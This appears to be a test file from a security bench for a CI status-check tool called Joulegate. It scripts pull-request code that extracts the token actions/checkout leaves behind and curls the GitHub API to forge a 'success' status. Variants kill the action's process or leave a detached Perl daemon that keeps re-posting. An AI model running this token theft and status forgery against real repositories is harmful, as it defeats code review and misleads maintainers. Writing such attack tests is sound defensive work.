import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Forge } from '../../rig/forge.ts'
import { isAlive, SELF_PERL } from '../../rig/processes.ts'
import { until } from '../../rig/until.ts'
import type { Attack, Place } from '../bench/case.ts'
import { attempt } from '../bench/play.ts'
import { job, scripts, step, tried, WORKFLOW, workflow } from '../bench/scene.ts'

/** Code of the pull request that has the rights of the runner needs no fault of Joulegate: a token that another step left can set any status. */

/** Takes the token that a checkout left in this file. */
const take = (file: string): string => `t=$(sed -n 's/.*[Bb]asic //p' ${file} 2>/dev/null | base64 -d | cut -d: -f2)
[ -n "$t" ] || exit 0`
/** Sets the status with the token in $t. */
const post = ({ loot }: Place): string =>
  `curl -sS -X POST -H "Authorization: Bearer $t" -H "User-Agent: x" -H "Accept: application/vnd.github+json" -d "{\\"state\\":\\"success\\",\\"context\\":\\"joulegate\\"}" "$(cat ${loot}/api)" >/dev/null`

/** Sets the status once, and ends the action, which would set it again. */
const ending = (place: Place): string => `${post(place)}
p=$PPID
while [ "$p" -gt 1 ]; do
  grep -q dist/action /proc/$p/cmdline && kill -9 $p
  p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)
done
true`

/** Leaves a process with an empty environment that sets the status again and again, for a minute or two. */
const again = (place: Place): string => `cat >${place.loot}/poster <<'END'
t=$0; for i in $(seq 200); do [ -e ${place.loot}/stop ] && exit; ${post(place)} && echo >>${place.loot}/posts; sleep 0.5; done
END
T=$t perl -MPOSIX -e 'exit if fork; POSIX::setsid(); exit if fork; open(my $p, ">>", "${place.loot}/pids"); print $p ${SELF_PERL}; close $p; my $t = $ENV{T}; %ENV = (PATH => "/usr/bin:/bin"); open(my $s, "<", "${place.loot}/poster"); local $/; exec "sh", "-c", <$s>, $t' </dev/null >/dev/null 2>&1 3>&-; sleep 0.1`

const textOf = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '')

/** If a process of it is still there after the job, it sets the status once more. */
async function outlive({ loot }: Forge): Promise<void> {
  const posts = (): number => textOf(join(loot, 'posts')).length
  const isLeft = (): boolean =>
    textOf(join(loot, 'pids'))
      .split('\n')
      .some((told) => told !== '' && isAlive(told))
  const before = posts()
  await until(() => posts() > before || !isLeft(), 'the status to be set once more, or the process to end')
  writeFileSync(join(loot, 'stop'), '')
}

const taken = (title: string, { version, file, script }: { version: string; file: string; script(place: Place): string }): Attack => ({
  title: `sets the status with the token that checkout@${version} left, ${title}`,
  class: 'verdict',
  isCode: true,
  needsOwnUser: true,
  base: (place) => ({
    ...scripts(place),
    [WORKFLOW]: workflow({ energy: job([{ uses: `actions/checkout@${version}` }, step(place)]) }),
  }),
  head: (place) => ({ 'build.sh': tried(place, `${take(`$(cat ${place.loot}/runner)/${file}`)}\n${script(place)}`) }),
  act: async (forge, open) => {
    const { head } = open()
    const { apiUrl, repository } = forge.github
    writeFileSync(join(forge.loot, 'api'), `${apiUrl}/repos/${repository}/statuses/${head.sha}`)
    await forge.hub.run(forge.event(7))
    await outlive(forge)
    return undefined
  },
})

const [CONFIG, BESIDE] = ['widget/widget/.git/config', '_temp/git-credentials-*']

attempt([
  taken('and ends the action', { version: 'v4', file: CONFIG, script: ending }),
  taken('and ends the action', { version: 'v6', file: BESIDE, script: ending }),
  taken('again and again', { version: 'v4', file: CONFIG, script: again }),
])
